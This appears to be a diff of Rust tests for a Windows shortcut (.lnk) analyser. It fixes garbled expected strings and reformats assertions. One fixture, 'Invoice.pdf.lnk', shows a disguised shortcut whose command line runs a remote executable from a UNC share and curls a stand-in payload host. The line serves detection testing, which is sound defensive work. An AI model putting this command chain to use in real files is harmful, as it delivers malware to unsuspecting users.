@@ -10,21 +10,23 @@ const COMMAND: &[u8] = include_bytes!("../../../testdata/small/command.lnk");
 fn a_shortcut_to_a_document_is_clean() {
     expect![[r#"
         1 lnk [Report.lnk] 
-            text: C:\獕牥s"\污捩e"\漀挀甀洀攀渀琀猀\刀攀瀀漀爀琀
+            text: C:\Users\alice\Documents\Report 2024.docx
             text: Quarterly report
             other: C:\Users\alice\Documents
-    "#]].assert_eq(&shown("Report.lnk", include_bytes!("../../../testdata/small/document.lnk")));
+    "#]]
+    .assert_eq(&shown("Report.lnk", include_bytes!("../../../testdata/small/document.lnk")));
 }
 
 #[test]
 fn a_shortcut_with_a_command_behind_a_mask() {
     expect![[r#"
         1 lnk [Invoice.pdf.lnk] command_line icon_disguise unc_path
-            text: C:\圀椀渀搀漀眀猀\匀礀猀琀攀洀\cmd.exe /c start \\198.51.100.7\share\a.exe & curl https://load.example/x
+            text: C:\Windows\System32\cmd.exe /c start \\198.51.100.7\share\a.exe & curl https://load.example/x
             other: C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe
             Field: \\198.51.100.7\share\a.exe []
             Field: https://load.example/x []
-    "#]].assert_eq(&shown("Invoice.pdf.lnk", COMMAND));
+    "#]]
+    .assert_eq(&shown("Invoice.pdf.lnk", COMMAND));
 }
 
 #[test]
@@ -35,7 +37,8 @@ fn a_shortcut_to_a_share() {
             other: \\files.example\public\plans.docx
             Field: \\FILES.EXAMPLE\PUBLIC []
             Field: \\files.example\public\plans.docx []
-    "#]].assert_eq(&shown("plans.lnk", include_bytes!("../../../testdata/small/share.lnk")));
+    "#]]
+    .assert_eq(&shown("plans.lnk", include_bytes!("../../../testdata/small/share.lnk")));
 }
 
 #[test]
